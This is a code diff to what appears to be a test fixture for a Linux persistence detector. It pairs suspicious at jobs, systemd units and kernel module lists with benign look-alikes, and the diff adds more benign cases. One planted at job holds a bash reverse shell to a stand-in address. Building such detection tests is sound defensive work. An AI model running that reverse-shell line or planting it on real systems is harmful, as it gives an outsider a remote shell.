@@ -30,7 +30,10 @@ TRACES: dict[str, tuple[str, Plant, Plant]] = {
     "a job that waits for its time": (
         "at",
         lambda it: it.file("/var/spool/cron/atjobs/a0001", "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"),
-        lambda it: it.file("/var/spool/cron/atjobs/a0001", "#!/bin/sh\ncd /root\n/usr/bin/true\n"),
+        lambda it: (
+            it.file("/var/spool/cron/atjobs/a0001", "#!/bin/sh\ncd /root\n/usr/bin/true\n"),
+            it.file("/var/spool/cron/atjobs/.SEQ", "/dev/shm/.x\n"),  # where at counts; never run
+        ),
     ),
     "a unit that opens a way in": (
         "unit",
@@ -56,6 +59,19 @@ TRACES: dict[str, tuple[str, Plant, Plant]] = {
         "user-unit",
         lambda it: it.file("/home/ann/.config/systemd/user/x.service", "[Service]\nExecStart=/tmp/x\n"),
         lambda it: it.file("/home/ann/.config/systemd/user/x.service", "[Service]\nExecStart=%h/bin/syncthing\n"),
+    ),
+    "a list of kernel modules": (
+        "modules-load",
+        lambda it: it.file("/etc/modules-load.d/x.conf", "# sound\nsnd-extra\n"),
+        lambda it: (
+            it.package("linux-image-6.1", {"/lib/modules/6.1/kernel/fs/ext4.ko": "\x7fELF"}),
+            it.file(
+                "/lib/modules/6.1/modules.dep", "kernel/fs/ext4.ko:\nkernel/sound/snd-extra.ko:\nupdates/dkms/x.ko:\n"
+            ),
+            it.file("/proc/sys/kernel/osrelease", "6.1\n"),
+            it.file("/proc/modules", "ext4 16384 1 - Live 0x0\n"),
+            it.file("/etc/modules-load.d/own.conf", "ext4\nx\n"),
+        ),
     ),
     "a generator": (
         "generator",
